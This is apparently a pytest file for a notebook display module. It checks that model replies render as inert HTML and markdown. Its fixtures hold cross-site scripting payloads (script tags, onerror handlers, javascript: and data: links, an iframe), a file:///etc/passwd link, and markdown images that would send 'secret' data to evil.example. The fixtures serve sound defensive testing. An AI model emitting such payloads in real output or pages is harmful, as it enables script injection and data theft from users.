"""Display under hostile model output: nothing loads, nothing runs, markdown still renders.

Every form ``reply_bundle`` produces is checked: HTML is parsed for real tags and
attributes; markdown is rendered by permissive renderers (raw HTML on, every link
allowed) so that a string passes only if no renderer could turn it into a live tag.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt

from gptoss_magics import display
from gptoss_magics.reply import Reply
from gptoss_magics.safe_markdown import safe_link
from gptoss_magics.safe_markdown import to_html as safe_html
from gptoss_magics.safe_markdown import to_markdown as safe_md

EVIL = (
    "Summary ![x](https://evil.example/p.png?d=secret) done.\n"
    "<img src=x onerror=alert(1)>\n"
    "<script>alert(1)</script>\n\n"
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(2)) [c](java&#115;cript:alert(3)) "
    "[d](data:text/html,hi) [e](data:image/png;base64,AAAA) [f](vbscript:x) "
    "<javascript:alert(4)> ![r][ref] [k][bad]\n\n"
    '<iframe src="https://evil.example/frame"></iframe>\n\n'
    '<div onclick="alert(5)">block</div>\n\n'
    "- ![in a list](https://evil.example/l.png)\n\n"
    "| ![t](https://evil.example/t.png) | <img src=y> |\n|---|---|\n| a | b |\n\n"
    "\\![y](https://evil.example/q.png)\n\n"
    "[![badge](https://evil.example/b.svg)](https://ci.example/x)\n\n"
    "[ref]: https://evil.example/r.png\n"
    "[bad]: javascript:alert(6)\n"
)
EVIL_REASONING = ("plan\n\n![r](https://evil.example/reason.png)\n\n<script>alert(7)</script>\n"
                  "<img src=z onerror=alert(8)>")
GOOD = (
    "Revenue fell **12%**, see [the docs](https://example.com/docs).\n\n"
    "- first *item*\n- second item\n\n"
    "| Name | Amount |\n|:-----|-------:|\n| a | 1,000 |\n\n"
    "```python\nprint(1 < 2)\n```\n"
)

DANGEROUS_TAGS = {"img", "script", "iframe", "object", "embed", "frame", "svg", "style",
                  "link", "meta", "base", "form", "input", "video", "audio", "source"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def tags(html_text: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Tags()
    parser.feed(html_text)
    parser.close()
    return parser.tags


def assert_inert(html_text: str, where: str, *, own_style: bool = False) -> None:
    """No tag that loads or runs anything, no event handler, no unsafe URL."""
    for tag, attrs in tags(html_text):
        if own_style and tag == "style":  # display's own stylesheet, not model text
            continue
        assert tag not in DANGEROUS_TAGS, f"{where}: <{tag} {attrs}>"
        for name, value in attrs:
            assert not name.startswith("on"), f"{where}: <{tag} {name}={value!r}>"
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                assert safe_link(value or ""), f"{where}: <{tag} {name}={value!r}>"


class _Permissive(MarkdownIt):
    """A renderer that allows raw HTML and every link: the worst case for markdown."""

    def validateLink(self, url: str) -> bool:
        return True


def renderings_of_markdown(text: str) -> list[tuple[str, str]]:
    out = [("markdown-it, html on", _Permissive("commonmark", {"html": True})
            .enable(["table", "strikethrough"]).render(text))]
    try:  # a second, unrelated parser (installed with nbconvert)
        import mistune
    except ImportError:
        return out
    md = mistune.create_markdown(escape=False, plugins=["table", "strikethrough", "url"])
    out.append(("mistune, html on", str(md(text))))
    return out


def make(final: str = EVIL, analysis: str = EVIL_REASONING, **kw: Any) -> Reply:
    fields: dict[str, Any] = dict(
        final=final, analysis=analysis, finish_reason="stop", truncated=False,
        prompt_tokens=10, completion_tokens=20, latency_s=0.5, effort="low",
        model="tiny", analysis_tokens=7, provenance={"model": "tiny", "effort": "low"})
    fields.update(kw)
    return Reply(**fields)


HOSTILE = [
    make(),
    make(notice="![n](https://evil.example/n.png) <img src=n>",
         value_error="![w](https://evil.example/w.png) <script>alert(9)</script>"),
    make(final="half an image ![x](https://evil.example/p.png?d=sec", analysis=""),
]


@pytest.mark.parametrize("reply", HOSTILE)
@pytest.mark.parametrize("show", [True, False])
def test_no_mime_type_carries_live_html_or_images(reply: Reply, show: bool) -> None:
    data, meta = display.reply_bundle(reply, show_reasoning=show)
    assert set(data) == {"text/plain", "text/markdown", "text/html", display.MIME}
    assert_inert(data["text/html"], "text/html", own_style=True)
    assert_inert(display.to_html(reply, show, streaming=True), "streaming", own_style=True)
    assert_inert(display.to_html(reply, show, markdown=False), "html as text", own_style=True)
    for name, rendered in renderings_of_markdown(data["text/markdown"]):
        assert_inert(rendered, f"text/markdown via {name}")
    bundle = data[display.MIME]
    for name, rendered in renderings_of_markdown(bundle["final_markdown"]):
        assert_inert(rendered, f"final_markdown via {name}")
    assert bundle["final"] == reply.final  # data for reproduce(): kept verbatim
    assert "evil.example" not in json.dumps(meta)  # provenance only, never the answer
    assert reply.final in data["text/plain"]  # plain text stays verbatim: shown as text


def test_images_become_links_that_load_nothing() -> None:
    html_text = safe_html("See ![chart](https://evil.example/p.png?d=secret).")
    links = [dict(attrs) for tag, attrs in tags(html_text) if tag == "a"]
    assert links == [{"class": "gptoss-image", "href": "https://evil.example/p.png?d=secret",
                      "rel": "noopener noreferrer nofollow", "title": "image not loaded"}]
    assert "[image: chart]" in html_text
    md = safe_md("See ![chart](https://evil.example/p.png?d=secret).")
    assert md == "See [\\[image: chart\\]](https://evil.example/p.png?d=secret).\n"


def test_an_image_inside_a_link_is_its_label() -> None:
    source = "[![build](https://evil.example/b.svg)](https://ci.example/run)"
    for html_text in (safe_html(source), renderings_of_markdown(safe_md(source))[0][1]):
        found = [(t, dict(a)) for t, a in tags(html_text) if t not in ("p", "span")]
        assert [(t, a["href"]) for t, a in found] == [("a", "https://ci.example/run")]
        assert "[image: build]" in html_text


def test_raw_html_shows_as_text() -> None:
    html_text = safe_html("<script>alert(1)</script> <img src=x onerror=alert(1)>")
    assert tags(html_text) == [("p", [])]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html_text
    for _, rendered in renderings_of_markdown(safe_md("<iframe src=x></iframe>\n\n<b>b</b>")):
        assert [t for t, _ in tags(rendered)] == ["p", "p"]
        assert "&lt;iframe src=x&gt;&lt;/iframe&gt;" in rendered


@pytest.mark.parametrize("url", [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:x",
    "data:text/html,hi", "data:image/png;base64,AAAA", "vbscript:x", "file:///etc/passwd",
    "jar:x", "x-custom:thing"])
def test_unsafe_links_stay_text(url: str) -> None:
    assert not safe_link(url)
    source = f"[click]({url.strip()})"
    html_text = safe_html(source)
    assert [t for t, _ in tags(html_text)] == ["p"], html_text
    for _, rendered in renderings_of_markdown(safe_md(source)):
        assert all(t != "a" for t, _ in tags(rendered)), rendered


@pytest.mark.parametrize("url", ["https://example.com/a?b=1&c=(2)", "http://x.org",
                                 "mailto:a@b.org", "/relative/page", "#anchor", "page.html"])
def test_safe_links_stay_links(url: str) -> None:
    assert safe_link(url)
    source = f"[click]({url})" if "(" not in url else f"[click](<{url}>)"
    for html_text in (safe_html(source), safe_html(safe_md(source))):
        (attrs,) = [a for t, a in tags(html_text) if t == "a"]
        attr = dict(attrs)
        assert attr["href"] == url
        assert attr["rel"] == "noopener noreferrer nofollow"


def test_ordinary_markdown_still_renders() -> None:
    html_text = display.to_html(make(final=GOOD, analysis=""))
    found = [t for t, _ in tags(html_text)]
    for tag in ("strong", "em", "ul", "li", "table", "th", "td", "pre", "code", "a"):
        assert tag in found, tag
    assert '<code class="language-python">print(1 &lt; 2)\n</code>' in html_text
    assert '<th style="text-align:left">Name</th>' in html_text
    assert '<a href="https://example.com/docs" rel="noopener noreferrer nofollow">' in html_text
    for name, rendered in renderings_of_markdown(display.to_markdown(make(final=GOOD,
                                                                           analysis=""))):
        found = [t for t, _ in tags(rendered)]
        for tag in ("strong", "em", "ul", "li", "table", "th", "td", "pre", "code", "a"):
            assert tag in found, (name, tag, rendered)


ROUND_TRIP = [
    GOOD,
    "# Q3 *results*\n\nText with `code <b>`, ``a ` b``, snake_case, C# and 3.14.\n"
    "1. not a list\\\nhard break, ~~struck~~, _under_, ***both***, \\* and \\\\ and &amp;.",
    "1. one\n2. two\n   - nested\n\n     second paragraph\n\n3) other\n\n+ plus\n+ list",
    "> quoted **text**\n>\n> > deeper\n> - list\n\n***\n\n    indented <code>\n",
    "| a \\| b | `x\\|y` |\n|:-:|---|\n| [l](https://a.b/c?d=1&e=(2)) | **c** |",
]


@pytest.mark.parametrize("source", ROUND_TRIP)
def test_safe_markdown_renders_like_the_original(source: str) -> None:
    assert safe_html(safe_md(source)) == safe_html(source)


def test_reasoning_cannot_break_out_of_its_block_in_markdown() -> None:
    text = display.to_markdown(make(final="ok", analysis=EVIL_REASONING), show_reasoning=True)
    reasoning_line = next(line for line in text.split("\n") if line.startswith("<details"))
    assert "evil.example/reason.png" in reasoning_line  # all of it inside the block
    rendered = renderings_of_markdown(text)[0][1]
    assert "&lt;script&gt;alert(7)&lt;/script&gt;" in rendered
    assert_inert(rendered, "reasoning")
